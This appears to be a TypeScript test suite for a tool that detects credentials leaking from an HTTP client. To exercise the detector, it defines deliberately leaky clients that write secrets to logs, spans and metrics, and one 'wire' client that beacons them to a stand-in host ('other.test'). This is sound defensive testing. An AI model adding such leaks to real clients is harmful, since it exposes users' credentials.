// The search of the case `leaks`, and clients that fail its assertions. `.ci/run` runs its short form.
import { describe, expect, it } from "@effect/vitest"
import * as Timeline from "@countersign/client/Timeline"
import * as HttpClientRequest from "@effect/platform/HttpClientRequest"
import * as Effect from "effect/Effect"
import * as FastCheck from "effect/FastCheck"
import * as Metric from "effect/Metric"
import { PCGRandom } from "effect/Utils"
import * as Leaks from "../src/leaks/leaks.js"
import type { Caller, CallOptions } from "../src/leaks/caller.js"
import { ours } from "../src/leaks/caller.js"
import * as Canary from "../src/leaks/canary.js"
import { leaky } from "../src/leaks/leakyClient.js"
import { deals } from "../src/leaks/matrix.js"
import * as memory from "../src/leaks/memoryNetwork.js"
import { run } from "../src/leaks/trial.js"
import * as Stress from "../src/Stress.js"

const short: Stress.Run = { short: true, reportProgress: () => Effect.void }

describe("Canary", () => {
  const encodings: Record<string, (secret: string) => string> = {
    unchanged: (secret) => secret,
    "in capitals": (secret) => secret.toUpperCase(),
    "percent-encoded": (secret) => [...Buffer.from(secret)].map((byte) => `%${byte.toString(16)}`).join(""),
    "in hexadecimal": (secret) => Buffer.from(secret).toString("hex").toUpperCase(),
    "in base64": (secret) => Buffer.from(secret).toString("base64"),
    "in base64 for URLs": (secret) => Buffer.from(secret).toString("base64url"),
    reversed: (secret) => [...secret].reverse().join("")
  }

  it.each(Object.entries(encodings))("finds a canary %s in any surrounding text", (_, encode) => {
    const around = FastCheck.string()
    FastCheck.assert(
      FastCheck.property(FastCheck.nat(), around, around, around, (seed, before, after, outside) => {
        const canary = Canary.make(new PCGRandom(seed))
        const text = outside + encode(before + canary.value + after) + outside
        expect(Canary.isIn(canary, Canary.haystack(text))).toBe(true)
        expect(Canary.isIn(Canary.make(new PCGRandom(seed + 1)), Canary.haystack(text))).toBe(false)
      })
    )
  })
})

describe("matrix", () => {
  it("gives the same cases for a seed, and combines every location with every pair of hosts that can leak it", () => {
    const cells = deals([["memory"]], 1)
    expect(cells).toEqual(deals([["memory"]], 1))
    expect(new Set(cells.map(({ from, place, to }) => `${place.name} ${from} ${to}`)).size).toBe(28 * 15)
    for (const { hops, isOwn, place, crossOriginBody } of cells) {
      if (isOwn) expect(hops).toContain("c")
      if (place.inBody === true) expect(crossOriginBody).toBe(false)
    }
  })
})

describe("trial", () => {
  const cells = deals([["memory"]], 7)
    .filter(({ place }) => place.shown !== true)
    .slice(0, 48)

  /** Our client, with an additional effect on each call that leaks its secrets. */
  const leaking =
    (leak: (order: CallOptions, secrets: string) => Effect.Effect<unknown, unknown>): Caller =>
    (order) =>
      Effect.zipRight(leak(order, JSON.stringify(order.put)), ours(order))

  const failing: Caller = (order) =>
    Effect.mapError(ours(order), (cause) => Object.assign(new Error("no"), { order, cause }))
  const leaks: Record<string, Caller> = {
    logs: leaking((_, secrets) => Effect.logTrace(secrets)),
    spans: leaking((_, secrets) => Effect.annotateCurrentSpan("call", secrets)),
    metrics: leaking((_, secrets) => Metric.increment(Metric.tagged(Metric.counter("leak"), "call", secrets))),
    timeline: leaking((_, secrets) =>
      Timeline.emit(() => ({ _tag: "RequestFailed", reason: secrets, ms: 0, request: 1, attempt: 1 }))
    ),
    wire: leaking(({ transport }, secrets) => {
      const beacon = HttpClientRequest.post(`http://other.test/x?${encodeURIComponent(secrets)}`)
      return Effect.withTracerEnabled(transport.execute(beacon), false)
    }),
    answers: (order) => Effect.as(Effect.ignore(ours(order)), order.put)
  }
  const sinksOf = (caller: Caller) =>
    Effect.map(
      run(caller, cells, memory.make(), 7, () => Effect.void),
      (results) => results.map(({ cell, leaks }) => ({ place: cell.place.name, leaks }))
    )

  it.live.each(Object.entries(leaks))("finds a secret that leaks in the %s only there", ([sink, caller]) =>
    Effect.gen(function* () {
      // A scheme is not a plain value: its secret appears on the wire, and where that is printed.
      const found = (yield* sinksOf(caller)).filter(({ leaks }) => leaks.length > 0)
      expect(found.length).toBeGreaterThan(cells.length / 3)
      for (const { leaks } of found) expect(leaks.filter((one) => one !== "logs" || sink !== "answers")).toEqual([sink])
    })
  )

  it.live("finds a secret of an error in the errors and where they are printed", () =>
    Effect.gen(function* () {
      const found = (yield* sinksOf(failing)).flatMap(({ leaks }) => leaks)
      expect(new Set(found)).toEqual(new Set(["logs", "spans", "errors"]))
    })
  )

  it.live("finds no leak of our client", () =>
    Effect.gen(function* () {
      expect((yield* sinksOf(ours)).flatMap(({ leaks }) => leaks)).toEqual([])
    })
  )
})

describe("leaks", () => {
  const brokenBy = (caller: Caller, leaking: Caller) =>
    Effect.map(Leaks.measure(caller, leaking, 48)(short), (figures) => Stress.check(Leaks.assertions, figures))

  it.live("catches the leaking client, and reports a client that does not leak as missed", () =>
    Effect.gen(function* () {
      expect(yield* brokenBy(leaky, ours)).toEqual([
        "no credential is sent or printed anywhere else",
        "the leaking client is caught in every case"
      ])
    })
  )

  it.live("fails for a client that sends nothing", () =>
    Effect.gen(function* () {
      expect(yield* brokenBy(() => Effect.void, leaky)).toEqual([
        "every credential reaches its own origin",
        "at least 40 % of the calls continue to an origin that must not receive the credential",
        "a redirect within its origin keeps the credential"
      ])
    })
  )

  it("fails if fewer than a third of the cases use sockets", () => {
    const figures: Leaks.Leaks = {
      ...{ cases: 9, sockets: 2, byTransport: {}, arrived: 9, crossed: 9, stayed: 1, wentAlong: 1, leaks: 0 },
      ...{ leakyCases: 0, bySink: {}, examples: "", caught: 9, missed: "" }
    }
    const broken = "at least a third of the cases use real sockets"
    expect(Stress.check(Leaks.assertions, figures)).toEqual([broken])
    expect(Stress.check(Leaks.assertions, { ...figures, sockets: 3 })).toEqual([])
  })
})
